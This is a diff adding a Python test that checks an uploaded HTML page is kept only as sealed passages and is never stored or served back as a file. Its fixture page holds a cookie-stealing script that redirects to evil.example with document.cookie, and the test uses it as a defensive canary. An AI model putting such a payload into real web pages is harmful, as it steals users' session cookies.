@@ -38,3 +38,25 @@ async def test_a_database_dump_after_a_conversation_holds_no_plaintext_body_or_s
         assert value.encode() not in raw, f"{name} is in the database file"
         assert value not in cells, f"{name} is in a cell"
     assert signing_key not in raw
+
+
+async def test_an_uploaded_file_is_kept_only_as_sealed_passages_never_as_the_file(
+    stack: Stack, sqlite_url: str
+) -> None:
+    """T-63, T-48: an uploaded page is neither stored as a file (so it can never be served
+    back as HTML) nor readable in the database: its passages are sealed, its script gone."""
+    org = await seed.organisation(stack.services, faq=None)
+    page = (
+        b"<html><head><script>document.location='https://evil.example/'+document.cookie"
+        b"</script></head><body><h1>Branches</h1><p>Open Saturdays CANARY5519.</p></body></html>"
+    )
+    report = await stack.services.knowledge.upload(
+        org.tenant_id, "branches.html", page, actor=seed.ACTOR
+    )
+    assert report.imported == 1
+    raw = sqlite_files(sqlite_url)
+    cells = await every_cell(stack.services)
+    for fragment in (b"CANARY5519", b"evil.example", b"<script>", b"<h1>"):
+        assert fragment not in raw
+        assert fragment.decode() not in cells
+    assert list((stack.services.settings.data_dir).rglob("branches.html")) == []
